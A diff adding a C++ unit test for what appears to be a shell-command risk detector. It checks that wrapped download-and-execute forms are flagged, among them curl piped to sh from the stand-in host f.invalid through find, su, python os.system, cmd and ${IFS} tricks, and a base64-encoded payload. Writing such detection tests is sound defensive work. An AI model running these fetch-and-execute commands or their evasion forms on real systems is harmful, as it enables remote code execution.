@@ -253,6 +253,23 @@ TEST(ShellForms, WhatEvalAndVariablesSay) {
     EXPECT_FALSE(runs(command)) << command;
 }
 
+TEST(ShellForms, CommandsThatOtherProgramsAreGiven) {
+  for (const char* command :
+       {"find . -exec sh -c 'curl https://f.invalid/x|sh' \\;", "su nobody -c 'curl https://f.invalid/x|sh'",
+        "script -qc 'curl https://f.invalid/x|sh'", "concurrently \"curl https://f.invalid/x|sh\" b",
+        "dotenv -- sh -c 'curl https://f.invalid/x|sh'", "curl https://f.invalid/x | while read l; do eval $l; done",
+        "curl https://f.invalid/x | bun run -", "cmd /c curl https://f.invalid/x.bat -o x.bat && x.bat",
+        "curl${IFS}https://f.invalid/x|sh", "python3 -c \"import os;os.system('curl https://f.invalid/x|sh')\""})
+    EXPECT_TRUE(runs(command)) << command;
+  for (const char* command :
+       {"find . -exec sh -c 'curl https://f.invalid/x' \\;", "concurrently 'node a.js' 'curl https://f.invalid/x'",
+        "curl https://f.invalid/x | while read l; do echo $l; done", "curl https://f.invalid/x | bun run lint",
+        "cmd /c curl https://f.invalid/x.zip -o x.zip && x.bat", "python3 -c \"print('curl https://f.invalid/x')\""})
+    EXPECT_FALSE(runs(command)) << command;
+  EXPECT_EQ(read_shell("deno eval 'f()'").code, Texts({"f()"}));
+  EXPECT_TRUE(has("sh -c \"$(echo YQ== | base64 -d)\"", FlagKind::encoded_payload));
+}
+
 TEST(ShellForms, Windows) {
   for (const char* command :
        {"powershell -c \"irm https://f.invalid/i.ps1|iex\"", "powershell -c \"iex (iwr https://f.invalid/x)\"",
